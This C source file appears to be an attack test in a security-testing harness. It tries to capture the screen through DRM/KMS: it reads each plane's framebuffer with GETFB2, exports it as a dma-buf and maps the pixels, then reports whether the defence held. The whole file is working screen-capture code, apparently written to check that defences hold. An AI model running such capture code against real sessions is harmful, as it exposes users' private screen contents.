// SPDX-License-Identifier: Apache-2.0
/*
 * Exports what each plane shows as a dma-buf and maps that, as screen recorders do.
 *
 * attack: kmsgrab
 * class: screen
 * when: session
 * judge: picture-read
 * quick: yes
 * defence: module
 * why: planes, GETFB2 and PRIME with CAP_SYS_ADMIN; planes are behind the modeset locks and the session's
 *	framebuffer has no id
 */
#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
#include <xf86drm.h>
#include <xf86drmMode.h>

#include "report.h"
#include "screen.h"

static int grab(int card, uint32_t fb)
{
	drmModeFB2 *info = drmModeGetFB2(card, fb);
	void *pixels;
	size_t size;
	int dmabuf;

	if (!info)
		return -errno;
	if (!info->handles[0] ||
	    drmPrimeHandleToFD(card, info->handles[0], O_CLOEXEC, &dmabuf)) {
		drmModeFreeFB2(info);
		return -EACCES;
	}
	size = (size_t)info->pitches[0] * info->height;
	pixels = mmap(NULL, size, PROT_READ, MAP_SHARED, dmabuf, 0);
	if (pixels != MAP_FAILED) {
		attack_picture();
		screen_report(pixels, info->pitches[0], info->width, info->height);
		munmap(pixels, size);
	}
	drmModeFreeFB2(info);
	close(dmabuf);
	return pixels == MAP_FAILED ? -errno : 0;
}

static unsigned int grab_all(int card)
{
	drmModePlaneRes *res;
	unsigned int grabbed = 0;
	uint32_t i;

	drmSetClientCap(card, DRM_CLIENT_CAP_UNIVERSAL_PLANES, 1);
	res = drmModeGetPlaneResources(card);
	for (i = 0; res && i < res->count_planes; i++) {
		drmModePlane *plane = drmModeGetPlane(card, res->planes[i]);

		if (plane && plane->fb_id) {
			int ret = grab(card, plane->fb_id);

			attack_note("plane %u: %s", plane->plane_id,
				    ret ? strerror(-ret) : "grabbed");
			grabbed += !ret;
		}
		drmModeFreePlane(plane);
	}
	drmModeFreePlaneResources(res);
	return grabbed;
}

int main(void)
{
	struct screen s;
	int ret;

	attack_init();
	ret = screen_open(&s);
	if (ret)
		attack_failed("no screen: %s", strerror(-ret));
	attack_ready();
	attack_wait(1000);
	if (!grab_all(s.card))
		attack_failed("no plane could be grabbed");
	attack_succeeded("grabbed a plane");
}
